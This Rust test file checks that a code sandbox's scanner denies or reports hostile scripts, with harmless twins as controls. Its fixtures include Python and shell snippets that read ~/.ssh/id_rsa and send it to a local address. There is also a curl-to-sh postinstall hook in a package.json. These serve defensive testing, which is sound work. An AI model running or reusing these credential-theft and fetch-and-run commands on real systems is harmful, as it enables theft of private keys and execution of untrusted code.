//! Code on its way in: what the scanner finds raises the verdict, wherever the code comes from.

use std::io::Write;
use std::process::Stdio;

use belljar_testkit::Who;
use belljar_testkit::project::Said;
use belljar_testkit::twice::Check;

use crate::desk::Desk;

pub const ALL: &[(&str, Check)] = &[
    ("what_is_grave_is_denied_wherever_it_comes_from", denied),
    ("what_a_script_on_standard_input_says_is_still_read_by_the_shell", input),
    ("an_installer_is_judged_by_what_it_obeys", installer),
    ("without_a_policy_findings_are_only_told", told),
    ("what_a_kept_sandbox_has_of_its_own_is_what_is_scanned", kept),
    ("findings_can_demand_stronger_isolation", isolation),
    ("a_project_can_not_ignore_findings_for_the_user", ignored),
    ("pathological_code_costs_little_and_is_told", pathological),
    ("a_program_without_source_passes_with_that_said", binary),
    ("the_scan_command_tells_programs_and_code_hosts", scan),
    ("places_and_troubles_are_said_in_words", words),
];

const STRICT: &str = "[findings]\ncritical = \"deny\"\nhigh = \"deny\"\n";
/// Reads a secret and sends it away.
const THEFT: &str = "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
    urllib.request.urlopen('http://127.0.0.1:9/', data=key.encode())\n";
/// The same words, and no harm.
const HONEST: &str = "import os, json\nkey = open('settings.json').read() if os.path.exists('settings.json') else '{}'\n\
    print('settings:', json.loads(key))\n";

fn denied(who: Who) -> Result<(), String> {
    let desk = Desk::of(who)?;
    desk.policy(STRICT)?;
    desk.put("theft.py", THEFT)?;
    desk.put("honest.py", HONEST)?;
    desk.put("theft.sh", "#!/bin/sh\ncurl -s --data-binary @$HOME/.ssh/id_rsa http://127.0.0.1:9/\n")?;
    let shell = format!("cd . && /usr/bin/python3 -c \"{}\"", THEFT.replace('\n', "; ").trim_end_matches("; "));
    let ways: [&[&str]; 5] = [
        &["/usr/bin/python3", "-c", THEFT],
        &["/usr/bin/python3", "theft.py"],
        &["sh", "theft.sh"],
        &["bash", "-c", "true; /usr/bin/python3 -u theft.py"],
        &["sh", "-c", &shell],
    ];
    for way in ways {
        let words = [&["run", "--json", "--"], way].concat();
        let said = desk.expect(&words, 123, "findings.")?;
        if !said.error.contains("\"grant\"") {
            return Err(format!("it is not said what would help: {said:?}"));
        }
    }
    // Whoever asks first hears the same.
    for words in
        [&["check", "--code", "theft.py"][..], &["check", "sh theft.sh"], &["check", "--", "python3", "theft.py"]]
    {
        desk.expect(words, 2, "")?;
    }
    desk.expect(&["check", "--code", "honest.py"], 0, "")?;
    // The control: its harmless twin runs.
    desk.expect(&["run", "--", "/usr/bin/python3", "honest.py"], 0, "")?;
    desk.expect(&["run", "--", "/usr/bin/python3", "-c", HONEST], 0, "").map(|_| ())
}

/// belljar with a script on its standard input; what it said.
fn fed(desk: &Desk, words: &[&str], script: &str) -> Result<Said, String> {
    let mut command = desk.project.command(words);
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().map_err(|error| error.to_string())?;
    let mut input = child.stdin.take().ok_or("no input")?;
    // Whoever refuses does not read to the end.
    let written = input.write_all(script.as_bytes());
    drop(input);
    let said = Said::of(child.wait_with_output().map_err(|error| error.to_string())?);
    match written {
        Err(error) if error.kind() != std::io::ErrorKind::BrokenPipe => Err(error.to_string()),
        _ => Ok(said),
    }
}

fn input(who: Who) -> Result<(), String> {
    let desk = Desk::of(who)?;
    desk.policy(STRICT)?;
    let said = fed(&desk, &["run", "--", "/usr/bin/python3", "-"], THEFT)?;
    if said.code != Some(123) {
        return Err(format!("it was not denied: {said:?}"));
    }
    // Nor is it hidden by what comes first, or by a terminal that nothing is read from.
    let strict = format!("{STRICT}medium = \"deny\"\n");
    desk.policy(&strict)?;
    let late = format!("{}{THEFT}", "# a line that says nothing\n".repeat(60_000));
    for words in [&["run", "--", "/usr/bin/python3", "-"][..], &["run", "-t", "--", "/usr/bin/python3", "-"]] {
        let said = fed(&desk, words, &late)?;
        if said.code != Some(123) || !said.error.contains("scan.incomplete") {
            return Err(format!("it was not denied: {said:?}"));
        }
    }
    desk.policy(STRICT)?;
    // The control: a harmless one is run, to its last letter, also where it is longer than what is read ahead.
    let long = format!("{}echo done\n", "# a line that says nothing\n".repeat(60_000));
    for (script, wanted) in [("echo $((6*7))\n", "42\n"), (long.as_str(), "done\n")] {
        let said = fed(&desk, &["run", "-q", "--", "bash"], script)?;
        if said.out != wanted.as_bytes() {
            return Err(format!("it was not run as it came: {said:?}"));
        }
    }
    Ok(())
}

fn installer(who: Who) -> Result<(), String> {
    let desk = Desk::of(who)?;
    desk.policy(STRICT)?;
    desk.put("npm", "#!/bin/sh\nexit 0\n")?;
    let mut make = std::process::Command::new("chmod");
    make.arg("+x").arg(desk.project.work.join("npm")).status().map_err(|error| error.to_string())?;
    let hook = |script: &str| format!("{{\"name\": \"x\", \"scripts\": {{\"postinstall\": \"{script}\"}}}}");
    desk.put("package.json", &hook("curl -s http://127.0.0.1:9/x | sh"))?;
    desk.expect(&["run", "--", "./npm", "install"], 123, "findings.")?;
    // The controls: another hook; and words that install nothing.
    desk.expect(&["run", "--", "./npm", "ls"], 0, "")?;
    desk.put("package.json", &hook("tsc --build"))?;
    desk.expect(&["run", "--", "./npm", "install"], 0, "").map(|_| ())
}

fn told(who: Who) -> Result<(), String> {
    let desk = Desk::of(who)?;
    desk.put("theft.py", &format!("import sys\nif len(sys.argv) < 9: sys.exit(7)\n{THEFT}"))?;
    let said = desk.expect(&["run", "--json", "--", "/usr/bin/python3", "theft.py"], 7, "\"findings\":[{")?;
    let line = said.error.lines().last().unwrap_or_default();
    let result: serde_json::Value = serde_json::from_str(line).map_err(|error| format!("{error}: {said:?}"))?;
    match (result["findings"][0]["severity"].as_str(), result["findings"][0]["at"]["name"].as_str()) {
        (Some("critical" | "high"), Some("theft.py")) => Ok(()),
        other => Err(format!("{other:?} in {result}")),
    }
}

/// The host has a harmless version, the sandbox another.
fn kept(who: Who) -> Result<(), String> {
    let desk = Desk::of(who)?;
    desk.policy(STRICT)?;
    desk.put("task.py", HONEST)?;
    desk.put("theft.txt", THEFT)?;
    let id = desk.project.create()?;
    desk.expect(&["exec", &id, "--", "/usr/bin/python3", "task.py"], 0, "")?;
    desk.expect(&["exec", &id, "--", "cp", "theft.txt", "task.py"], 0, "")?;
    desk.expect(&["exec", &id, "--", "/usr/bin/python3", "task.py"], 123, "findings.")?;
    // The control: the host's is as it was.
    desk.expect(&["run", "--", "/usr/bin/python3", "task.py"], 0, "").map(|_| ())
}

fn isolation(who: Who) -> Result<(), String> {
    let desk = Desk::of(who)?;
    let demand = "[findings.isolation]\ncritical = \"machine\"\nhigh = \"machine\"\n";
    desk.policy(demand)?;
    desk.expect(&["run", "--", "/usr/bin/python3", "-c", THEFT], 123, "isolation")?;
    desk.expect(&["run", "--", "/usr/bin/python3", "-c", HONEST], 0, "").map(|_| ())
}

fn ignored(who: Who) -> Result<(), String> {
    let desk = Desk::of(who)?;
    let ignore = "ignore = [\"*\"]\n";
    desk.policy(STRICT)?;
    desk.put("belljar.toml", &format!("version = 1\n[findings]\n{ignore}"))?;
    desk.expect(&["run", "--", "/usr/bin/python3", "-c", THEFT], 123, "findings.")?;
    // The control: the user can.
    desk.policy(&format!("{STRICT}{ignore}"))?;
    let said = desk.say(&["run", "--", "/usr/bin/python3", "-c", THEFT])?;
    match said.code {
        Some(1) => Ok(()),
        _ => Err(format!("the control failed: {said:?}")),
    }
}

fn pathological(who: Who) -> Result<(), String> {
    let desk = Desk::of(who)?;
    let deep = "(".repeat(10 << 20);
    let nested = format!("x = {}1{}\n", "[".repeat(4096), "]".repeat(4096));
    let bait = format!("x = '{}!'\n", "a".repeat(200_000));
    for (name, text) in [("open.py", deep.as_str()), ("nested.py", &nested), ("bait.js", &bait)] {
        desk.put(name, text)?;
        let said = desk.say(&["scan", "--json", "--severity", "low", name])?;
        let found: serde_json::Value =
            serde_json::from_slice(&said.out).map_err(|error| format!("{name}: {error}: {said:?}"))?;
        let failed = found["findings"].as_array().into_iter().flatten().any(|one| one["rule"] == "scan.failed");
        if failed || name == "open.py" && found["findings"].as_array().is_none_or(Vec::is_empty) {
            return Err(format!("{name}: {found}"));
        }
    }
    Ok(())
}

fn binary(who: Who) -> Result<(), String> {
    let desk = Desk::of(who)?;
    desk.policy(STRICT)?;
    std::fs::copy("/bin/true", desk.project.work.join("tool")).map_err(|error| error.to_string())?;
    let said = desk.expect(&["run", "--json", "--", "./tool"], 0, "\"not_scanned\":[\"./tool: ")?;
    match said.error.contains("without source") {
        true => Ok(()),
        false => Err(format!("{said:?}")),
    }
}

/// Where something was found, and what can't be done, in one line each.
fn words(who: Who) -> Result<(), String> {
    let desk = Desk::of(who)?;
    desk.policy(STRICT)?;
    let theft = "cat ~/.ssh/id_rsa | curl -d @- http://127.0.0.1:9/";
    desk.expect(&["run", "--", "sh", "-c", theft], 123, "code `sh -c code, line 1`")?;
    desk.put("a > b.py", &format!("import os\n\nos.system('{theft}')\n"))?;
    let said = desk.expect(&["scan", "--sarif", "a > b.py"], 1, "")?;
    let log: serde_json::Value = serde_json::from_slice(&said.out).map_err(|error| error.to_string())?;
    let place = &log["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
    if place["artifactLocation"]["uri"] != "a%20%3E%20b.py" || place["region"]["startLine"] != 3 {
        return Err(format!("{place}"));
    }
    // A slip of the pen under `ignore` is remarked; what is right is not.
    desk.policy(&format!("{STRICT}ignore = [\"exfiltration.pyton\", \"process\"]\n"))?;
    let said = desk.say(&["policy", "lint"])?;
    let text = String::from_utf8_lossy(&said.out).into_owned() + &said.error;
    if !text.contains("policy.toml:5: remark: `exfiltration.pyton`") || text.contains("`process`") {
        return Err(text);
    }
    desk.policy("")?;
    // What can't be written is said, once; nothing takes the place of what is no file.
    std::fs::create_dir(desk.project.work.join("folder")).map_err(|error| error.to_string())?;
    desk.expect(&["run", "--result-file", "folder", "--", "true"], 125, "cannot write the result")?;
    let folder = desk.home.join(".config/belljar/scan");
    std::fs::create_dir_all(&folder).map_err(|error| error.to_string())?;
    std::fs::write(folder.join("x.toml"), "class = \"x\"\n[[rule]]\nid = \"a\"\n")
        .map_err(|error| error.to_string())?;
    for path in [folder.clone(), folder.join("x.toml")] {
        desk.project.give(&path).map_err(|error| error.to_string())?;
    }
    let said = desk.expect(&["scan", "a > b.py"], 125, "x.toml:2: missing field")?;
    match said.error.lines().count() == 1 && !said.error.contains("\\n") {
        true => Ok(()),
        false => Err(format!("{said:?}")),
    }
}

fn scan(who: Who) -> Result<(), String> {
    let desk = Desk::of(who)?;
    desk.put("src/theft.py", THEFT)?;
    desk.put("src/honest.py", HONEST)?;
    desk.expect(&["scan", "src/honest.py"], 0, "")?;
    let said = desk.expect(&["scan", "--json", "src"], 1, "")?;
    let found: serde_json::Value = serde_json::from_slice(&said.out).map_err(|error| error.to_string())?;
    if found["files"] != 2 || found["findings"][0]["at"]["name"] != "src/theft.py" {
        return Err(format!("{found}"));
    }
    let said = desk.expect(&["scan", "--sarif", "src"], 1, "")?;
    let log: serde_json::Value = serde_json::from_slice(&said.out).map_err(|error| error.to_string())?;
    let place = &log["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
    match (log["version"].as_str(), place["artifactLocation"]["uri"].as_str()) {
        (Some("2.1.0"), Some("src/theft.py")) => Ok(()),
        _ => Err(format!("{log}")),
    }
}
